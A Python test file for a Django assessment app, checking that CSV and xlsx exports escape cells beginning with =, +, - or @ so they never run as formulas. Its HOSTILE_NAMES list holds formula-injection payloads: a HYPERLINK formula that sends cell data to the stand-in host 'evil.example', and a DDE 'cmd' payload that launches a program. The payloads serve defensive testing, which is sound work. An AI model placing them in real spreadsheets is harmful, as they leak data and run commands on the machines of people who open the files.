"""No export runs a formula (DESIGN.md §4.1 ⚑): a text cell beginning with = + - or @ is
escaped — CSV with a leading ``'``, xlsx as a text cell (no ``<f>`` element in the sheet) —
from the command line, the download on the cycle page and the import's error copy; numbers
stay numbers. The API has no export (its JSON carries no spreadsheet cells)."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from kaopei.assessment.exports import write_table
from kaopei.core.spreadsheets import csv_text_cell, is_formula_like
from kaopei.imports import workbooks
from kaopei.imports.services import import_file
from kaopei.org.models import Employee
from tests.assessment.conftest import Scored

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
]


def name_alice(scored: Scored, name: str) -> None:
    Employee.objects.filter(pk=scored.personas.alice.pk).update(name=name)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_text_cell_without_formula(data: bytes, text: str) -> None:
    """The workbook holds ``text`` as a text cell, and its sheet XML has no formula."""
    book = load_workbook(io.BytesIO(data))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == text]
    assert cells, f"{text!r} is not in the workbook"
    assert all(cell.data_type == "s" for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


def test_only_text_beginning_with_a_formula_sign_is_escaped() -> None:
    assert [csv_text_cell(t) for t in ("=1", "+1", "-1", "@A", "a=1", "")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "a=1",
        "",
    ]
    assert not is_formula_like("安丽")


def test_negative_numbers_stay_plain_numbers_in_both_formats() -> None:
    rows: list[list[Any]] = [["-2+3", Decimal("-12.50")]]
    out = io.BytesIO()
    write_table(out, fmt="csv", header=["name", "profit"], rows=rows)
    assert csv_rows(out.getvalue())[1] == ["'-2+3", "-12.50"]
    out = io.BytesIO()
    write_table(out, fmt="xlsx", header=["name", "profit"], rows=rows)
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    assert sheet["A2"].value == "-2+3" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == Decimal("-12.5") or sheet["B2"].value == -12.5
    assert sheet["B2"].data_type == "n"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_the_command_line_export_escapes_a_formula_name(
    scored_cycle: Scored, tmp_path: Path, name: str
) -> None:
    name_alice(scored_cycle, name)
    call_command("export", "scorecards", "2026Q1", "-o", str(tmp_path / "cards.csv"))
    call_command("export", "scorecards", "2026Q1", "-o", str(tmp_path / "cards.xlsx"))

    rows = csv_rows((tmp_path / "cards.csv").read_bytes())
    alice = next(r for r in rows if r[0] == "A001")
    assert alice[1] == "'" + name
    assert_text_cell_without_formula((tmp_path / "cards.xlsx").read_bytes(), name)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_the_download_on_the_cycle_page_escapes_a_formula_name(
    scored_cycle: Scored, name: str
) -> None:
    name_alice(scored_cycle, name)
    hr = scored_cycle.client(scored_cycle.personas.hr)

    response = hr.get("/assessment/cycles/2026Q1/export/scorecards.csv")
    assert response.status_code == 200
    alice = next(r for r in csv_rows(response.content) if r[0] == "A001")
    assert alice[1] == "'" + name

    response = hr.get("/assessment/cycles/2026Q1/export/scorecards.xlsx")
    assert response.status_code == 200
    assert_text_cell_without_formula(response.content, name)


def test_a_supervisor_cannot_download_the_export(scored_cycle: Scored) -> None:
    response = scored_cycle.client(scored_cycle.personas.sup).get(
        "/assessment/cycles/2026Q1/export/scorecards.xlsx"
    )
    assert response.status_code in (403, 404)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_the_error_copy_of_an_import_keeps_a_formula_name_as_text(
    personas: Any, tmp_path: Path, name: str
) -> None:
    path = tmp_path / "units.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["code", "name", "kind", "parent"])
        writer.writerow(["X1", name, "nonsense", "HQ"])
    batch = import_file(path=path, kind="org_units", dry_run=True)
    assert batch.status == batch.Status.FAILED

    assert_text_cell_without_formula(workbooks.error_workbook(batch), name)
